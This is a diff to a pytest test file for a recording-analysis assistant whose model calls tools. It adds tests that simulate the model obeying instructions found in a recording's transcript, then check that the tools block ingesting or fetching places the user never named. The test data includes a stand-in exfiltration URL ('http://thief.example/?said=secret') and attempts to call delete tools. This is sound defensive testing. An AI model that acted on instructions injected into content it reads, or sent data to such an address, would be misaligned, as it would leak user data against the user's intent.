@@ -4,6 +4,7 @@ import json
 import sys
 import threading
 import time
+from pathlib import Path
 
 import pytest
 from chat_server import chat_server, says, wants
@@ -13,6 +14,8 @@ from scripted import Scripted, calls
 
 from assistant.cli import main
 from assistant.errors import BadRequest, PlannerFailed
+from assistant.langchain_tools import langchain_tools
+from assistant.nodes import find_recording
 from assistant.planner import ALL, consult, load_planner
 from memory import NotFound
 from tools.errors import Stopped
@@ -20,14 +23,20 @@ from tools.errors import Stopped
 
 @pytest.fixture
 def wavs(tmp_path):
-    return [str(write_wav(tmp_path / f"talk{n}.wav", tone(5))) for n in (1, 2)]
+    return [str(write_wav(tmp_path / f"talk{n}.wav", tone(5, n / 4))) for n in (1, 2)]
+
+
+@pytest.fixture
+def known(assistant, wavs):
+    """Recordings that the user added before."""
+    return [find_recording(assistant.store, wav).id for wav in wavs]
 
 
 class TestScripted:
-    def test_several_recordings_each_with_its_report(self, assistant, wavs):
+    def test_several_recordings_each_with_its_report(self, assistant, wavs, known):
         script = [
             calls("list_recordings"),
-            calls("ask_recording", recording=wavs[0], question="Is a siren heard?"),
+            calls("ask_recording", recording=known[0], question="Is a siren heard?"),
             calls("ask_recording", recording=wavs[1], question="And here?", end_seconds=4.0),
             AIMessage("In neither."),
         ]
@@ -47,7 +56,7 @@ class TestScripted:
         assert second.heard.seconds_total == 4.0
         assert stages == ["planner: list recordings", *["planner: ask recording"] * 2]
 
-    def test_an_answer_that_came_as_a_job(self, assistant, fake, wavs):
+    def test_an_answer_that_came_as_a_job(self, assistant, fake, known):
         answer = fake.answer
         fake.answer = lambda *args, **kwargs: (time.sleep(0.5), answer(*args, **kwargs))[1]
         seen = []
@@ -60,7 +69,7 @@ class TestScripted:
                     self.responses[1] = calls("get_job", job=job)
                 return super()._generate(messages, *args, **kwargs)
 
-        ask = calls("ask_recording", recording=wavs[0], question="Loud?", wait_seconds=0.0)
+        ask = calls("ask_recording", recording=known[0], question="Loud?", wait_seconds=0.0)
         found = consult(
             assistant, Waiting(responses=[ask, AIMessage(""), AIMessage("Yes.")]), "Loud?"
         )
@@ -98,7 +107,7 @@ class TestScripted:
         with pytest.raises(PlannerFailed, match="NotImplementedError.*can call tools"):
             consult(assistant, Mute(responses=[AIMessage("x")]), "What?")
 
-    def test_stopping_ends_what_it_began(self, assistant, fake, wavs):
+    def test_stopping_ends_what_it_began(self, assistant, fake, known):
         answer, stop = fake.answer, threading.Event()
         fake.reply = lambda question, plan: "word " * 600
 
@@ -107,7 +116,7 @@ class TestScripted:
             return answer(*args, on_text=lambda text: time.sleep(0.05), **kwargs)
 
         fake.answer = slowly
-        model = Scripted(responses=[calls("ask_recording", recording=wavs[0], question="Talk.")])
+        model = Scripted(responses=[calls("ask_recording", recording=known[0], question="Talk.")])
         with pytest.raises(Stopped):
             consult(assistant, model, "Talk.", stop=stop.is_set)
         assert assistant.store.jobs_under_way() == []
@@ -118,6 +127,82 @@ class TestScripted:
     def test_what_is_no_question(self, assistant, question, recording, error):
         with pytest.raises(error):
             consult(assistant, Scripted(responses=[AIMessage("x")]), question, recording)
+
+
+class TestWhatARecordingSays:
+    """The model obeys what it reads in a transcript; the tools don't."""
+
+    @pytest.fixture
+    def fetched(self, monkeypatch):
+        """Addresses that were fetched."""
+        found = []
+        monkeypatch.setattr("assistant.places.fetch", lambda place, *a, **k: found.append(place))
+        return found
+
+    @pytest.fixture
+    def obey(self, assistant, known, tmp_path):
+        """What came of a call that a recording asked for, with settings that allow everything."""
+        assistant.settings = assistant.settings.model_copy(
+            update={"allow_addresses": True, "allowed_folders": (tmp_path,)}
+        )
+
+        def obey(call, question="What is said?"):
+            told = []
+
+            class Obeying(Scripted):
+                def _generate(self, messages, *args, **kwargs):
+                    told.append(messages[-1])
+                    return super()._generate(messages, *args, **kwargs)
+
+            script = [calls("get_transcript", recording=known[0]), call, AIMessage("Done.")]
+            assert consult(assistant, Obeying(responses=script), question).answer == "Done."
+            return told[-1].content
+
+        return obey
+
+    @pytest.mark.parametrize("tool", ["ingest", "ask_recording", "get_transcript"])
+    @pytest.mark.parametrize("place", ["http://thief.example/?said=secret", "FILE", "sub/a.wav"])
+    def test_nothing_is_fetched_or_opened(self, obey, assistant, fetched, tmp_path, tool, place):
+        secret = write_wav(tmp_path / "secret.wav", tone(3))
+        more = {"question": "x"} if tool == "ask_recording" else {}
+        place = str(secret) if place == "FILE" else place
+        told = obey(calls(tool, recording=place, **more))
+        assert "is not in the user's question" in told
+        assert fetched == []
+        assert len(assistant.store.recordings()) == 2
+
+    def test_part_of_what_the_user_named_is_something_else(self, obey, fetched):
+        for place in ("http://good.example", "http://good.example/a.wav?said=secret"):
+            told = obey(calls("ingest", recording=place), "What is in http://good.example/a.wav?")
+            assert "is not in the user's question" in told
+        assert fetched == []
+
+    def test_what_the_user_named_is_taken_within_the_settings(
+        self, obey, assistant, fetched, tmp_path
+    ):
+        mine = str(write_wav(tmp_path / "my own.wav", tone(3)))
+        assert "my own.wav" in obey(calls("ingest", recording=mine), f"What is in '{mine}'?")
+        assert len(assistant.store.recordings()) == 3
+        place = "http://good.example/a.wav"
+        assistant.settings = assistant.settings.model_copy(update={"allow_addresses": False})
+        told = obey(calls("ingest", recording=place), f"What is in {place}?")
+        assert "allow_addresses" in told
+        other = str(write_wav(tmp_path / "x.wav", tone(2)))
+        assistant.settings = assistant.settings.model_copy(update={"allowed_folders": ()})
+        told = obey(calls("ingest", recording=other), f"What is in {other}?")
+        assert "allowed_folders" in told
+        assert fetched == []
+
+    @pytest.mark.parametrize("tool", ["delete_recording", "remove_recording", "forget"])
+    def test_nothing_is_deleted(self, obey, assistant, known, tool):
+        assert "not a valid tool" in obey(calls(tool, recording=known[0]))
+        assert [recording.id for recording in assistant.store.recordings()] == known
+
+    def test_no_tool_is_there_to_delete(self, assistant):
+        assert {tool.name for tool in langchain_tools(assistant)} == {
+            *("list_recordings", "ingest", "ask_recording", "search_recordings"),
+            *("get_transcript", "find_sound_events", "get_evidence", "get_job", "cancel_job"),
+        }
 
 
 class TestLoading:
@@ -187,7 +272,10 @@ class TestOverHTTP:
     def test_as_json_by_the_setting(self, run, wavs, monkeypatch):
         monkeypatch.setenv("HEADROUTER_PLANNER", "openai:small")
         with chat_server(self.asks_once(wavs[0])) as chat:
-            code, out, _ = run(chat.address, "all", "Loud?", "--json")
+            monkeypatch.setenv(
+                "HEADROUTER_ALLOWED_FOLDERS", json.dumps([str(Path(wavs[0]).parent)])
+            )
+            code, out, _ = run(chat.address, "all", f"Is '{wavs[0]}' loud?", "--json")
             assert code == 0
             found = json.loads(out)
             assert found["steps"][0]["heard"]["seconds_heard"] == 5.0
@@ -221,5 +309,5 @@ class TestOverHTTP:
     def test_options_that_it_does_not_take(self, run, wavs):
         planner = ("--planner", "openai:small")
         code, _, err = run("http://127.0.0.1:9/v1", wavs[0], "Loud?", "--from", "1", *planner)
-        assert code == 3
+        assert code == 2
         assert "--planner none" in err
